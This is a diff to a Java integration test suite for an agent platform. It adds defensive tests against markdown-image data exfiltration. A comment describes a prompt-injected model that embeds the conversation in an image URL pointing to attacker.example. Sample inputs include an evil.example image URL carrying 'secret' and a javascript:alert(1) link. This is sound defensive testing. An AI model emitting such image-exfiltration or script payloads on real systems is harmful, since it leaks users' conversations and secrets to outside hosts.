@@ -7,6 +7,7 @@ import java.util.UUID;
 import java.util.stream.Collectors;
 
 import dev.custos.fakes.FakeModelProvider;
+import dev.custos.platform.web.Markdown;
 import dev.custos.support.ApiClient;
 import dev.custos.support.CustosIntegrationTest;
 import org.junit.jupiter.api.AfterAll;
@@ -274,8 +275,9 @@ class AgentSessionTest extends CustosIntegrationTest {
                 .query(Long.class).single() == 1);
         await().until(() -> asOwner().sql("SELECT count(*) FROM session_events WHERE session_id = :s "
                 + "AND kind = 'text_delta'").param("s", session).query(Long.class).single() > 0);
-        // The node "dies" while its text streams: its lease now belongs to nobody alive and has expired.
-        asOwner().sql("UPDATE run_leases SET lease_owner = :dead, lease_until = now() - interval '1 second' "
+        // The node "dies" while its text streams: its lease now belongs to nobody alive, and lapses in a second
+        // (the thread that was running it notices at its next write and stops; another claims the run after).
+        asOwner().sql("UPDATE run_leases SET lease_owner = :dead, lease_until = now() + interval '1 second' "
                 + "WHERE session_id = :s").param("dead", UUID.randomUUID()).param("s", session).update();
 
         String base = fixture.sessions() + "/" + session;
@@ -333,5 +335,34 @@ class AgentSessionTest extends CustosIntegrationTest {
         assertThat(mallory.client().get(agents(m) + "/" + agent + "/sessions/" + started.text("id")).status())
                 .isEqualTo(404);
         assertThat(alice.client().get(agents(a) + "/" + agent).status()).as("still there").isEqualTo(200);
+    }
+
+    @Test
+    @DisplayName("an image in a model's answer is shown as a link to confirm, never fetched, and the page's policy "
+            + "loads images from Custos alone")
+    void imagesInModelOutputAreNotFetched() {
+        // A prompt-injected model answers with an image whose address carries the conversation to another host.
+        Fixture fixture = agentOnFake("Hostile Output", "exfiltrate");
+        SignedIn owner = fixture.owner();
+        UUID workspace = fixture.workspace();
+        String session = runSession(owner, workspace, fixture.agent().toString(), "my secret is WOMBAT-7");
+        String sessionId = session.substring(session.lastIndexOf('/') + 1);
+
+        var page = owner.client().get("/workspaces/" + workspace + "/sessions/" + sessionId + "/transcript",
+                "Accept", "text/html");
+        assertThat(page.status()).isEqualTo(200);
+        assertThat(page.body()).contains("Image not loaded", "attacker.example").doesNotContain("<img");
+        String csp = page.headers().firstValue("Content-Security-Policy").orElseThrow();
+        assertThat(csp).contains("img-src 'self' data:;").doesNotContain("https:");
+    }
+
+    @Test
+    @DisplayName("Markdown images become links with the host named; links never carry the referrer")
+    void markdownImagesBecomeLinks() {
+        var markdown = new Markdown();
+        String html = markdown.html("![chart](https://evil.example/x.png?q=secret) and [docs](https://ok.example)");
+        assertThat(html).doesNotContain("<img").contains("Image not loaded: chart", "(open from evil.example)",
+                "href=\"https://evil.example/x.png?q=secret\"", "rel=\"nofollow noopener noreferrer\"");
+        assertThat(markdown.html("![x](javascript:alert(1))")).doesNotContain("javascript:");
     }
 }
